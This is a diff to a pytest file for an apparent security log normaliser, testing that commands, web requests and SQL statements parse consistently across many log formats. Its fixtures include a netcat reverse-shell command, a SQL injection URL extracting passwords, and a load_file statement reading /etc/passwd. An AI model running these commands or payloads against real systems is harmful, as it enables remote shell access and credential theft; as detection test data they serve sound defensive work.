@@ -8,6 +8,7 @@ from aiscore_model.normalise import normalise
 
 COMMAND = "nc -e /bin/sh gate7 4444"
 ATTACK = "/product?id=3%27%20UNION%20SELECT%20password%20FROM%20users--"
+STATEMENT = "SELECT load_file('/etc/passwd') FROM a WHERE x='1'"
 WORDS = "path product query id num quote union select password from users comment"
 EVENTS = {
     "an object": json.dumps({"user": "ann", "cmdline": COMMAND}), "words one by one": json.dumps({"proc": {"argv": ["nc", "-e", "/bin/sh", "gate7", "4444"]}}),
@@ -17,6 +18,8 @@ EVENTS = {
     "an attribute with its type": json.dumps({"attributes": [{"key": "process.command_line", "value": {"stringValue": COMMAND}}, {"key": "user", "value": {"stringValue": "ann"}}]}),
     "an object as a text on a bus": json.dumps({"topic": "edr", "key": "a", "value": json.dumps({"cmdline": COMMAND})}), "cells": f"2026-11-27 10:11:12|PC7|ann|{COMMAND}|0",
     "a shell's trace": f"[2026-11-27T10:11:12.345Z] + {COMMAND}", "a prompt in colours": f"\x1b[32;1m$ {COMMAND}\x1b[0;m", "a hook of a prompt": f"Nov 27 10:11:12 db1 root: [ann@192.0.2.9]: /srv: {COMMAND}",
+    "pairs": f'time=2026-11-27T10:00:00Z level=info proc="runner" argv="{COMMAND}" user=ann', "XML": f"<event><time>1</time><user>ann</user><stepCmd>{COMMAND}</stepCmd></event>",
+    "an object behind a head": f'2026-11-27 10:00:00 INFO acme.Runner - event {json.dumps({"user": "ann", "stepCmd": COMMAND})}', "no host": f"2026-11-27T10:00:00Z Running command: {COMMAND}", "no program": f"2026-11-27T10:00:00Z command: {COMMAND}",
     "quotes in a sentence": f"2026-11-27 10:11:12 [salt.cmdmod][INFO] Executing command '{COMMAND}' in directory '/root'", "brackets": f"2026-11-27 10:11:12 INFO Executing shell command [{COMMAND}]",
 }
 
@@ -36,12 +39,37 @@ def test_a_command_says_the_same_words_in_all_forms(form):
 @pytest.mark.parametrize("text", [
     json.dumps({"url": ATTACK, "status": 200, "ip": "192.0.2.7"}), json.dumps({"level": "info", "msg": f"GET {ATTACK} 200", "ip": "192.0.2.7"}),
     json.dumps({"caller_ip": "192.0.2.7", "http_verb": "GET", "endpoint": ATTACK, "response_code": 200}), f"2026-11-27T10:11:12Z|192.0.2.7|GET|{ATTACK}|200|12",
-    f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {ATTACK}" 200 12ms', f"Nov 27 10:11:12 web7 shop[33]: 192.0.2.7 GET {ATTACK} 200 in 12 ms",
+    f"time=2026-11-27T10:00:00Z path={ATTACK} status=200 ip=192.0.2.7", f'level=info src=192.0.2.7 verb=GET url="{ATTACK}" status=200 bytes=7', f"<a><client>192.0.2.7</client><method>GET</method><uri>{ATTACK}</uri><status>200</status></a>",
+    f'[2026-11-27 10:00:00] INFO gate: {json.dumps({"url": ATTACK, "status": 200, "ip": "192.0.2.7"})}', f'[2026-11-27 10:00:00] INFO 192.0.2.7 "GET {ATTACK}" 200 12ms', f"Nov 27 10:11:12 web7 shop[33]: 192.0.2.7 GET {ATTACK} 200 in 12 ms",
 ])
 def test_a_request_says_the_same_words_in_all_forms(text):
     found = read(text)
     assert WORDS in found.template and "success" in found.template
     assert found.kind == "web" and dict(found.entities)["src"] == "192.0.2.7"
+
+
+@pytest.mark.parametrize("text", [
+    f'time=1 user=ann db=shop sql="{STATEMENT}" rows=1', f"<log><time>1</time><db>shop</db><sql>{STATEMENT}</sql></log>", f"2026-11-27T10:11:12Z Executing SQL: {STATEMENT}", f"2026-11-27 10:11:12;db1;ann;{STATEMENT};0",
+    f"Nov 27 10:11:12 app1 shop[7]: duration: 3.281 ms  statement: {STATEMENT}", json.dumps({"msg": f"query took 12 ms: {STATEMENT}"}), f"(0.012) {STATEMENT} AND b='2' AND c='3'",
+])
+def test_a_statement_says_the_same_words_in_all_forms(text):
+    found = read(text)
+    assert "statement select load file etc passwd from a where x num" in found.template
+    assert any(STATEMENT in part for part in found.focus)
+
+
+@pytest.mark.parametrize("text", [
+    f'level=warn msg="login failed" user="x cmd={COMMAND}" src=192.0.2.7', f"2026-11-27 10:11:12 INFO search - ann searched: {COMMAND}", f"<a><time>1</time><subject>{COMMAND}</subject><from>ann</from></a>", "time=1 level=info command=refresh user=ann",
+    "time=1 query=cats user=ann page=7", f'2026-11-27 10:00:00 INFO login failed for user {json.dumps({"cmdline": COMMAND})}', f'name="x {json.dumps({"cmdline": COMMAND})}',
+])
+def test_what_somebody_gave_says_no_command(text):
+    found = read(text)
+    assert found.action != "command" and found.kind != "web" and COMMAND not in found.focus
+
+
+def test_a_device_that_names_both_ends_tells_more_than_a_request():
+    found = read("time=1 url=http://shop.example/a status=200 srcip=192.0.2.7 dstip=198.51.100.7")
+    assert found.kind == "keyvalue" and "from" in found.template
 
 
 def test_what_is_said_beside_a_request_is_read_behind_it():
